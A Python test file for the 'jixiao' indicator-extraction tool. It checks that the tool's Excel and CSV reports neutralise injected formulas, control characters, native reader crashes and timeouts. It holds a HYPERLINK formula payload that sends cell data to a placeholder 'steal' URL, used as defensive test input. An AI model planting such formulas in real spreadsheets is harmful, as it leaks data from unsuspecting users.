"""Hostile but valid inputs: each is read in bounded time and memory, or gets one clear reason; nothing
a document holds becomes a formula, a link or markup in the report; nothing native reaches the terminal."""
import faulthandler
import hashlib
import os
import re
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from builders import BALANCED, table_text
from jixiao.cli import main
from jixiao.extract import convert

ROOT = Path(__file__).parent.parent
SEED = ROOT / "fixtures" / "seed" / "000_3b6eebb77ec974f1.txt"
NO_SOFFICE = "LibreOffice not installed: apt-get install libreoffice-calc"
LINK = '=HYPERLINK("http://example.invalid/steal?"&A1,"点此核对")'


def documents(out: Path) -> pd.DataFrame:
    return pd.read_csv(out / "documents.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)


# ---- review.xlsx: no formula from data -----------------------------------------------------------
@pytest.fixture(scope="module")
def reviewed(tmp_path_factory) -> Path:
    """The seed and a table whose 三级指标 is a HYPERLINK formula, a reason '#N/A', another a control character."""
    folder = tmp_path_factory.mktemp("hostile-report")
    rows = [("产出指标", "数量指标", LINK, "=100.00(%)", "100.00(%)", "50", "50", "#N/A"),
            (*BALANCED[1][:7], "铃\x07声"), BALANCED[2]]
    hostile = folder / "hostile.txt"
    hostile.write_text(table_text(rows, name="=1+1"), encoding="utf-8")
    seed = folder / SEED.name
    shutil.copy(SEED, seed)
    out = folder / "out"
    assert main(["run", str(seed), str(hostile), "--out", str(out), "--quiet", "--no-cache", "--report"]) == 0
    return out


def test_review_xlsx_holds_no_formula_from_data(reviewed):
    indicators = pd.read_csv(reviewed / "indicators.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert LINK in set(indicators.level3) and (indicators.target_raw == "=100.00(%)").sum() == 19  # the CSV: exact text
    wb = load_workbook(reviewed / "review.xlsx")  # formulas as formulas (data_only=False)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"=100.00(%)", LINK, "#N/A", "=1+1", "铃\ufffd声"} <= texts  # XML cannot hold U+0007: U+FFFD
    assert "铃\x07声" in set(indicators.deviation_reason)
    header = [c.value for c in wb["indicators"][1]]
    weights = [row[header.index("weight")].value for row in wb["indicators"].iter_rows(min_row=2)]
    assert weights and all(isinstance(v, (int, float)) for v in weights)  # numbers stay numbers
    with zipfile.ZipFile(reviewed / "review.xlsx") as z:
        xml = {n: z.read(n) for n in z.namelist()}
    assert not any(re.search(rb"<f[ >]", data) for data in xml.values())
    # the only links are jixiao's own, to rows of the workbook itself
    assert not any(b"TargetMode=\"External\"" in data for n, data in xml.items() if n.endswith(".rels"))
    links = re.findall(rb"<hyperlink [^>]*>", xml["xl/worksheets/sheet2.xml"])
    assert links and all(b"location=\"'" in h and b"r:id" not in h for h in links)


@pytest.mark.skipif(convert.soffice() is None, reason=NO_SOFFICE)
def test_libreoffice_shows_the_targets_as_text(reviewed, tmp_path):
    """Opened in LibreOffice (converted headless to CSV), =100.00(%) reads as typed, not as 1 or an error."""
    shutil.copy(reviewed / "review.xlsx", tmp_path / "review.xlsx")
    # Filter options: comma, double quote, UTF-8, from line 1, …, the last -1: every sheet to its own file.
    csv = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1'
    subprocess.run([convert.soffice(), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
                    "--convert-to", csv, "--outdir", str(tmp_path), str(tmp_path / "review.xlsx")],
                   check=True, capture_output=True, timeout=120, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    text = (tmp_path / "review-indicators.csv").read_text(encoding="utf-8")
    assert text.count(",=100.00(%),") == 19 and LINK.replace('"', '""') in text


# ---- a reader that dies natively -----------------------------------------------------------------
def test_a_native_crash_is_one_line_naming_the_reader(tmp_path, monkeypatch, capfd):
    """What the reader printed never reaches the terminal: its last meaningful line goes to notes, the
    reason names the reader, and the row has its doc_id (hashed before the file's process started)."""
    from jixiao.extract import text

    def abort(path):
        os.write(1, b"some chatter on stdout\n")
        os.write(2, b"memory allocation of 549755813888 bytes failed\nstack backtrace:\n   0: std::alloc::rust_oom\n"
                    b"             at /rustc/library/std/src/alloc.rs:378:5\nnote: Some details are omitted\n")
        faulthandler.disable()
        os.abort()
    monkeypatch.setattr(text, "read_text", abort)
    path = tmp_path / "a.txt"
    path.write_text(table_text(BALANCED), encoding="utf-8")
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    d = documents(tmp_path / "out")
    assert list(d.error) == ["the text reader ran out of memory (signal 6)"]
    assert list(d.notes) == ["last line printed: memory allocation of 549755813888 bytes failed"]
    assert list(d.doc_id) == [hashlib.sha256(path.read_bytes()).hexdigest()[:16]]
    printed = capfd.readouterr()
    assert "memory allocation" not in printed.err + printed.out and "chatter" not in printed.err + printed.out


def test_a_file_that_timed_out_keeps_its_doc_id(tmp_path, monkeypatch):
    from jixiao.extract import text

    def hang(path):
        os.write(1, "working…\n".encode())
        time.sleep(30)
    monkeypatch.setattr(text, "read_text", hang)
    path = tmp_path / "a.txt"
    path.write_text(table_text(BALANCED), encoding="utf-8")
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache", "--file-timeout", "1"]) == 0
    d = documents(tmp_path / "out")
    assert (list(d.error), list(d.notes)) == (["timed out after 1 s (--file-timeout)"], ["last line printed: working…"])
    assert list(d.doc_id) == [hashlib.sha256(path.read_bytes()).hexdigest()[:16]]
